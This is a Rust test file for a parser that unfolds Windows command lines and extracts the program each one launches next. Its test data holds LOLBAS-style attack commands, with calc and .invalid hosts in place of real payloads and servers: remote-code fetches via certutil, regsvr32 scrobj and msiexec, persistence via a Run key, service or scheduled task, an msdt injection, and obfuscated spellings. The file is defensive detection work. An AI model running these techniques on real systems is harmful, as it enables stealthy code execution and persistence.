//! Command lines of the LOLBAS project and of Microsoft's documentation, with `calc` and hosts under
//! `.invalid` in place of theirs.

use super::*;
use crate::command::unfold::{Language, Next, Pool, unfold};

fn next(stem: &str, text: &str) -> Vec<String> {
    let pool = Pool::new(64 << 20);
    let mut fuel = Fuel::of(text.len(), &pool);
    let outcome = arguments(stem, text, &mut fuel);
    let next = outcome.next.into_iter().map(|next| match next {
        Next::Line(line) => line,
        Next::Code(Language::VbScript, code) => format!("vb: {code}"),
        Next::Code(Language::JScript, code) => format!("js: {code}"),
        Next::Code(Language::PowerShell, code) => format!("ps: {code}"),
        Next::Code(Language::Shell { .. }, code) => format!("cmd: {code}"),
    });
    next.collect()
}

#[test]
fn published() {
    for (stem, text, expected) in [
        (
            "mshta",
            "vbscript:Close(Execute(\"x\"))",
            "vb: Close(Execute(\"x\"))",
        ),
        ("mshta", "\"javascript:a=1;close()\"", "js: a=1;close()"),
        ("mshta", "javascript:a=%22x%22", "js: a=\"x\""),
        (
            "mshta",
            "\"about:<script language=vbscript>x</script>\"",
            "vb: x",
        ),
        (
            "mshta",
            "\"about:&lt;script&gt;x()&lt;/script&gt;\"",
            "js: x()",
        ),
        ("mshta", "http://x.invalid/a.hta", ""),
        (
            "rundll32",
            "javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();a%20=1",
            "js: \"\\..\\mshtml,RunHTMLApplication \";document.write();a =1",
        ),
        (
            "rundll32",
            "shell32.dll,ShellExec_RunDLL cmd.exe /c calc",
            "cmd.exe /c calc",
        ),
        (
            "rundll32",
            "SHELL32,ShellExec_RunDLLA \"cmd.exe\" /c calc",
            "\"cmd.exe\" /c calc",
        ),
        (
            "rundll32",
            "url.dll,OpenURL file:///C:/test/a.hta",
            "file:///C:/test/a.hta",
        ),
        (
            "rundll32",
            "url.dll,FileProtocolHandler calc.exe",
            "calc.exe",
        ),
        ("rundll32", "url.dll,OpenURL http://x.invalid/", ""),
        (
            "rundll32",
            "advpack.dll,RegisterOCX \"cmd.exe /c calc\"",
            "cmd.exe /c calc",
        ),
        ("rundll32", "ieadvpack.dll,RegisterOCX calc.exe", "calc.exe"),
        ("rundll32", "zipfldr.dll,RouteTheCall calc.exe", "calc.exe"),
        (
            "rundll32",
            "pcwutl.dll,LaunchApplication calc.exe",
            "calc.exe",
        ),
        (
            "rundll32",
            "\"C:\\Windows\\System32\\pcwutl.dll\" LaunchApplication calc.exe",
            "calc.exe",
        ),
        ("rundll32", "shell32.dll,#44 calc.exe", "calc.exe"),
        ("rundll32", "user32.dll,LockWorkStation", ""),
        (
            "rundll32",
            "setupapi.dll,InstallHinfSection DefaultInstall 128 c:\\a.inf",
            "",
        ),
        ("wmic", "process call create \"cmd /c calc\"", "cmd /c calc"),
        ("wmic", "process call create calc", "calc"),
        (
            "wmic",
            "/node:\"h\" process call create 'calc.exe'",
            "calc.exe",
        ),
        ("wmic", "process call create \"calc\",\"c:\\\"", "calc"),
        (
            "wmic",
            "process call create \"cmd /c \\\"calc\\\"\"",
            "cmd /c \"calc\"",
        ),
        ("wmic", "os get /format:\"http://x.invalid/a.xsl\"", ""),
        (
            "forfiles",
            "/p c:\\windows\\system32 /m notepad.exe /c calc.exe",
            "calc.exe",
        ),
        (
            "forfiles",
            "/m a.txt /c \"cmd /c echo 0x22@file0x22\"",
            "cmd /c echo \"@file\"",
        ),
        ("pcalua", "-a calc.exe", "calc.exe"),
        ("pcalua", "-a cmd.exe -c /c calc", "cmd.exe /c calc"),
        ("conhost", "--headless cmd.exe /c calc", "cmd.exe /c calc"),
        ("conhost", "calc.exe", "calc.exe"),
        (
            "explorer",
            "/root,\"C:\\Windows\\System32\\calc.exe\"",
            "C:\\Windows\\System32\\calc.exe",
        ),
        (
            "explorer",
            "C:\\Windows\\System32\\notepad.exe",
            "C:\\Windows\\System32\\notepad.exe",
        ),
        ("explorer", "C:\\Users", ""),
        (
            "schtasks",
            "/create /sc minute /mo 1 /tn \"Reverse shell\" /tr \"cmd /c calc\"",
            "cmd /c calc",
        ),
        ("schtasks", "/query", ""),
        (
            "at",
            "\\\\h 09:00 /interactive /every:m,t cmd /c calc",
            "cmd /c calc",
        ),
        (
            "sc",
            "create x binPath= \"cmd /c calc\" start= auto",
            "cmd /c calc",
        ),
        ("sc", "config x binPath=\"calc\"", "calc"),
        (
            "reg",
            "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d \"calc.exe\" /f",
            "calc.exe",
        ),
        ("reg", "add HKCU\\Software\\X /v y /d 2", ""),
        (
            "bitsadmin",
            "/SETNOTIFYCMDLINE 1 c:\\data\\a.exe NULL",
            "c:\\data\\a.exe",
        ),
        (
            "bitsadmin",
            "/SetNotifyCmdLine j C:\\Windows\\System32\\cmd.exe \"cmd.exe /c calc\"",
            "cmd.exe /c calc",
        ),
        ("bitsadmin", "/transfer j http://x.invalid/a c:\\a", ""),
        ("ssh", "-o ProxyCommand=calc.exe .", "calc.exe"),
        ("ssh", "-o ProxyCommand=\"cmd /c calc\" x@y", "cmd /c calc"),
        ("bash", "-c calc.exe", "calc.exe"),
        ("bash", "-c \"cmd.exe /c calc\"", "cmd.exe /c calc"),
        ("wsl", "-u root -e calc.exe", "calc.exe"),
        ("wsl", "--exec cmd.exe /c calc", "cmd.exe /c calc"),
        ("runas", "/user:x \"cmd /c calc\"", "cmd /c calc"),
        ("winrs", "-r:h cmd /c calc", "cmd /c calc"),
        (
            "winrm",
            "invoke Create wmicimv2/Win32_Process @{CommandLine=\"calc\"} -r:http://h:5985",
            "calc",
        ),
        (
            "syncappvpublishserver",
            "\"n;(New-Object x).y()\"",
            "ps: (New-Object x).y()",
        ),
        (
            "msdt",
            "/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=/../../$(Invoke-Expression('calc'))/a.exe\"",
            "ps: Invoke-Expression('calc')",
        ),
        ("certutil", "-urlcache -split -f http://x.invalid/a a", ""),
        (
            "regsvr32",
            "/s /n /u /i:http://x.invalid/a.sct scrobj.dll",
            "",
        ),
        ("msiexec", "/q /i http://x.invalid/a.msi", ""),
        (
            "cscript",
            "//nologo //e:vbscript c:\\a.txt",
            "//nologo //e:vbscript c:\\a.txt",
        ),
        ("control", "c:\\a.cpl", "c:\\a.cpl"),
        ("hh", "http://x.invalid/a.chm", ""),
    ] {
        let expected: Vec<_> = if stem == "cscript" || expected.is_empty() {
            Vec::new()
        } else {
            vec![expected.to_owned()]
        };
        assert_eq!(next(stem, text), expected, "{stem} {text}");
    }
}

#[test]
fn spellings_are_undone() {
    for (stem, text, clear) in [
        (
            "certutil",
            "-ur\"l\"cache -sp\"lit\" -f http://x.invalid/a",
            "-urlcache -split -f http://x.invalid/a",
        ),
        (
            "certutil",
            "\u{2013}urlcache \u{2014}f http://x.invalid/a",
            "-urlcache -f http://x.invalid/a",
        ),
        (
            "regsvr32",
            "/s /n /u /i:ht\"\"tp://x.invalid/a.sct scro\"b\"j.dll",
            "/s /n /u /i:http://x.invalid/a.sct scrobj.dll",
        ),
    ] {
        let pool = Pool::new(64 << 20);
        let mut fuel = Fuel::of(text.len(), &pool);
        let outcome = arguments(stem, text, &mut fuel);
        assert_eq!(outcome.clear.as_deref(), Some(clear), "{text}");
        assert_eq!(outcome.steps.len(), 1, "{text}");
    }
}

/// Nothing is hidden in these.
#[test]
fn plain_arguments_stay() {
    for (stem, text) in [
        (
            "certutil",
            "-urlcache -split -f http://x.invalid/a \"c:\\a b\"",
        ),
        ("regsvr32", "/s /i:\"http://x.invalid/a.sct\" scrobj.dll"),
        ("excel", "[Book1.xlsx]Sheet1"),
        ("control", "/name Microsoft.Sound"),
        ("net", "use \\\\h\\s"),
        ("sc", "query"),
        ("msiexec", ""),
        ("reg", "query HKCU\\Software"),
        ("forfiles", "/?"),
        ("rundll32", "printui.dll,PrintUIEntry /in /n \\\\h\\p"),
    ] {
        let pool = Pool::new(64 << 20);
        let mut fuel = Fuel::of(text.len(), &pool);
        assert_eq!(
            arguments(stem, text, &mut fuel),
            Outcome::default(),
            "{stem} {text}"
        );
    }
}

/// One program starts the next.
#[test]
fn chains() {
    let pool = Pool::new(64 << 20);
    let code = "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"conhost --headless calc.exe\"\"\")";
    let tree = unfold("mshta.exe", code, &pool);
    let first = &tree.stages[0];
    assert_eq!(first.image.as_deref(), Some("conhost.exe"));
    assert_eq!(first.stages[0].image.as_deref(), Some("calc.exe"));
}

#[test]
fn bounds() {
    for piece in [
        "\"",
        "\\",
        "-c ",
        "0x22",
        "$(",
        "call create ",
        "%41",
        "&#x61;",
        "-o ProxyCommand=a ",
        "<script>",
        "javascript:",
        "a,",
        "binpath= ",
    ] {
        let text = piece.repeat(8_000);
        for stem in [
            "at",
            "bitsadmin",
            "forfiles",
            "msdt",
            "mshta",
            "pcalua",
            "reg",
            "rundll32",
            "sc",
            "ssh",
            "wmic",
            "wsl",
            "certutil",
            "explorer",
            "winrm",
        ] {
            let start = std::time::Instant::now();
            next(stem, &text);
            next(stem, &format!("/c about:{text}"));
            assert!(start.elapsed().as_secs() < 5, "{stem} {piece}");
        }
    }
}
